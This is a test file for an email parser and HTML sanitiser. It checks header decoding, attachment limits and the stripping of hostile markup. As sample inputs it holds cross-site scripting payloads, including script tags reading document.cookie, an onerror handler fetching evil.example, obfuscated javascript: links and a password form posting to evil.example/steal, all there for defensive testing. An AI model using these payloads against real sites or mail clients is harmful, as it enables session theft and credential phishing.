import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { composeMessage } from './compose-message';
import { InboundMailError, MAX_INBOUND_BYTES, parseInbound, sanitizeEmailHtml } from './inbound-mail';

const crlf = (lines: string[]) => Buffer.from(lines.join('\r\n'), 'utf8');

/** A client's reply as a webmail program writes it: related HTML with an inline logo, a PDF, a folded References header. */
const clientReply = crlf([
  'Return-Path: <ravi@client.example>',
  'From: =?UTF-8?B?UmF2aSBLdW3DoXI=?= <Ravi@Client.Example>',
  'To: "Demo Traders" <t-01jq7k@reply.crm.example>',
  'Cc: Accounts: priya@client.example, <raj@client.example>;, manoj@client.example',
  'Subject: =?UTF-8?Q?Re:_Your_quotation_=E2=9C=93?=',
  'Date: Mon, 02 Mar 2026 15:04:05 +0530',
  'Message-ID: <CAF=reply42@mail.client.example>',
  'In-Reply-To: <01JQ7K0002@crm.example>',
  'References: <01JQ7K0000@crm.example>',
  ' <01JQ7K0002@crm.example>',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="mixed"',
  '',
  '--mixed',
  'Content-Type: multipart/related; boundary="related"',
  '',
  '--related',
  'Content-Type: multipart/alternative; boundary="alt"',
  '',
  '--alt',
  'Content-Type: text/plain; charset=UTF-8',
  '',
  'Thanks, we accept. Call me on Tuesday.',
  '--alt',
  'Content-Type: text/html; charset=UTF-8',
  'Content-Transfer-Encoding: quoted-printable',
  '',
  '<div dir=3D"ltr" style=3D"font-family:Arial">Thanks, we <b>accept</b>.<img src=3D"cid:logo=',
  '@client.example" alt=3D"Client logo" onerror=3D"fetch(\'https://evil.example\')"><script>alert(document.=',
  'cookie)</script></div>',
  '--alt--',
  '--related',
  'Content-Type: image/png; name="logo.png"',
  'Content-Transfer-Encoding: base64',
  'Content-ID: <logo@client.example>',
  'Content-Disposition: inline; filename="logo.png"',
  '',
  'iVBORw0KGgo=',
  '--related--',
  '--mixed',
  'Content-Type: application/pdf; name="PO 7781.pdf"',
  'Content-Transfer-Encoding: base64',
  'Content-Disposition: attachment; filename="PO 7781.pdf"',
  '',
  'JVBERi0xLjQKAP+A',
  '--mixed--',
  '',
]);

describe('parseInbound', () => {
  it('reads the thread headers, addresses (groups flattened, lower-cased), text, sanitised HTML and attachment bytes', async () => {
    const mail = await parseInbound(clientReply);
    expect(mail).toEqual({
      messageId: '<CAF=reply42@mail.client.example>',
      inReplyTo: '<01JQ7K0002@crm.example>',
      references: ['<01JQ7K0000@crm.example>', '<01JQ7K0002@crm.example>'],
      from: { address: 'ravi@client.example', name: 'Ravi Kumár' },
      to: ['t-01jq7k@reply.crm.example'],
      cc: ['priya@client.example', 'raj@client.example', 'manoj@client.example'],
      subject: 'Re: Your quotation ✓',
      date: new Date('2026-03-02T09:34:05.000Z'),
      text: 'Thanks, we accept. Call me on Tuesday.',
      html: '<div>Thanks, we <b>accept</b>.<img alt="Client logo" src="cid:logo@client.example" /></div>',
      attachments: [
        { filename: 'logo.png', contentType: 'image/png', size: 8, content: Buffer.from('89504e470d0a1a0a', 'hex'), contentId: 'logo@client.example' },
        { filename: 'PO 7781.pdf', contentType: 'application/pdf', size: 12, content: Buffer.from('%PDF-1.4\n\x00\xff\x80', 'latin1') },
      ],
    });
  });

  it('reads a stream as it reads a Buffer', async () => {
    const fromStream = await parseInbound(Readable.from([clientReply.subarray(0, 100), clientReply.subarray(100)]));
    expect(fromStream).toEqual(await parseInbound(clientReply));
  });

  it('an HTML-only message gets its text from the HTML; no HTML, no html field; a single Reference is a list of one', async () => {
    const htmlOnly = await parseInbound(
      crlf(['From: a@client.example', 'To: t-02@reply.crm.example', 'Subject: Hi', 'References: <only@crm.example>', 'Content-Type: text/html; charset=utf-8', '', '<p>Call <b>me</b></p><script>x()</script>', '']),
    );
    expect(htmlOnly).toMatchObject({ text: 'Call me', html: '<p>Call <b>me</b></p>\n', references: ['<only@crm.example>'], cc: [] });
    const textOnly = await parseInbound(crlf(['From: a@client.example', 'To: t-02@reply.crm.example', 'Subject: Hi', '', 'Plain', '']));
    expect(textOnly).toEqual({ references: [], from: { address: 'a@client.example' }, to: ['t-02@reply.crm.example'], cc: [], subject: 'Hi', text: 'Plain\n', attachments: [] });
  });

  it('refuses a message over 25 MB, before parsing it', async () => {
    const refused = parseInbound(Buffer.alloc(MAX_INBOUND_BYTES + 1, 0x41));
    await expect(refused).rejects.toBeInstanceOf(InboundMailError);
    await expect(refused).rejects.toMatchObject({ code: 'message_too_large', message: 'The message is 26214401 bytes; at most 26214400 are accepted.' });
    expect(MAX_INBOUND_BYTES).toBe(26_214_400);
  });

  it('stops reading a stream as soon as it passes the limit', async () => {
    let pulled = 0;
    const endless = new Readable({
      read() {
        pulled += 1;
        this.push(Buffer.alloc(1024, 0x41));
      },
    });
    await expect(parseInbound(endless, { maxBytes: 10_000, maxAttachments: 20 })).rejects.toMatchObject({
      code: 'message_too_large',
      message: 'The message is more than 10000 bytes; at most 10000 are accepted.',
    });
    expect(endless.destroyed).toBe(true);
    expect(pulled).toBeLessThan(20);
  });

  it('accepts 20 attachments and refuses 21', async () => {
    const withAttachments = (n: number) =>
      composeMessage({
        from: { name: 'Ravi', address: 'ravi@client.example' },
        to: ['t-01@reply.crm.example'],
        replyTo: 'ravi@client.example',
        subject: 'Files',
        text: 'see attached',
        messageId: '<files@client.example>',
        attachments: Array.from({ length: n }, (_, i) => ({ filename: `f${i}.txt`, contentType: 'text/plain', content: Buffer.from(`file ${i}`) })),
      });
    expect((await parseInbound(await withAttachments(20))).attachments).toHaveLength(20);
    await expect(parseInbound(await withAttachments(21))).rejects.toMatchObject({
      name: 'InboundMailError',
      code: 'too_many_attachments',
      message: 'The message has 21 attachments; at most 20 are accepted.',
    });
  });

  it('refuses a message without a From address', async () => {
    await expect(parseInbound(crlf(['To: t-01@reply.crm.example', 'Subject: who?', '', 'body', '']))).rejects.toMatchObject({ code: 'no_sender' });
  });
});

describe('sanitizeEmailHtml: what may be rendered of an email', () => {
  it.each([
    ['a script and its content', '<p>Hi<script>alert(document.cookie)</script></p>', '<p>Hi</p>'],
    ['an event handler, and the image whose src is not allowed', '<img src="x" onerror="alert(1)">', ''],
    ['an event handler on an allowed image', '<img src="https://img.example/a.png" onerror="alert(1)" onload="x()" alt="a">', '<img alt="a" src="https://img.example/a.png" />'],
    ['a cid: image stays (it is the message’s own attachment)', '<img src="cid:logo@client.example" width="120">', '<img width="120" src="cid:logo@client.example" />'],
    ['a data: image', '<img src="data:image/png;base64,iVBORw0KGgo=">', ''],
    ['an http: image (mixed content, tracking)', '<img src="http://track.example/p.gif">', ''],
    ['a javascript: link', '<a href="javascript:alert(1)">pay</a>', '<a>pay</a>'],
    ['a javascript: link in mixed case with an entity', '<a href="JaVaScRiPt&#x3A;alert(1)">pay</a>', '<a>pay</a>'],
    ['a javascript: link split by a tab', '<a href="java\tscript:alert(1)">pay</a>', '<a>pay</a>'],
    ['a vbscript: and a data: link', '<a href="vbscript:x">v</a><a href="data:text/html,<script>x()</script>">d</a>', '<a>v</a><a>d</a>'],
    ['a relative link (it would resolve against the CRM)', '<a href="/v1/tenants/t1/export">export</a>', '<a>export</a>'],
    ['a protocol-relative link', '<a href="//evil.example/x">x</a>', '<a>x</a>'],
    [
      'an https link opens in a new tab without referrer; its own handlers and target go',
      '<a href="https://client.example/po?id=1&amp;v=2" onclick="x()" target="_self" rel="opener">PO</a>',
      '<a href="https://client.example/po?id=1&amp;v=2" target="_blank" rel="noopener noreferrer nofollow">PO</a>',
    ],
    ['a mailto link', '<a href="mailto:accounts@client.example">write</a>', '<a href="mailto:accounts@client.example" target="_blank" rel="noopener noreferrer nofollow">write</a>'],
    ['a <style> element and style attributes', '<style>body{display:none}</style><p style="color:red;background:url(https://x.example)">t</p>', '<p>t</p>'],
    ['an iframe and its fallback content', '<iframe src="https://evil.example" srcdoc="<script>x()</script>">fallback</iframe>after', 'after'],
    ['SVG, with its script and text', '<svg onload="alert(1)"><script>alert(2)</script><text>hi</text><a href="https://x.example">l</a></svg>x', 'x'],
    ['MathML', '<math><mi xlink:href="javascript:alert(1)">m</mi></math>z', 'z'],
    ['a form and its controls', '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button><select><option>a</option></select></form>f', 'f'],
    ['object and embed', '<object data="x.swf">o</object><embed src="x.swf">e', 'e'],
    ['the head, title, meta refresh, ids and classes', '<html><head><title>T</title><meta http-equiv="refresh" content="0;url=https://evil.example"></head><body><p class="x" id="main">b</p></body></html>', '<p>b</p>'],
    [
      'formatting and tables stay, their presentational attributes only where allowed',
      '<table border="1" bgcolor="red"><tr><th align="left">Item</th><td colspan="2" valign="top" style="x">Qty</td></tr></table><ol start="3"><li><em>e</em> <strong>s</strong> <u>u</u></li></ol><blockquote>q</blockquote><pre>p</pre><hr><br>',
      '<table><tr><th align="left">Item</th><td colspan="2" valign="top">Qty</td></tr></table><ol start="3"><li><em>e</em> <strong>s</strong> <u>u</u></li></ol><blockquote>q</blockquote><pre>p</pre><hr /><br />',
    ],
    ['text is escaped, not interpreted', '<p>1 &lt; 2 &amp; &lt;script&gt;</p>', '<p>1 &lt; 2 &amp; &lt;script&gt;</p>'],
  ])('%s', (_, hostile, expected) => {
    expect(sanitizeEmailHtml(hostile)).toBe(expected);
  });
});
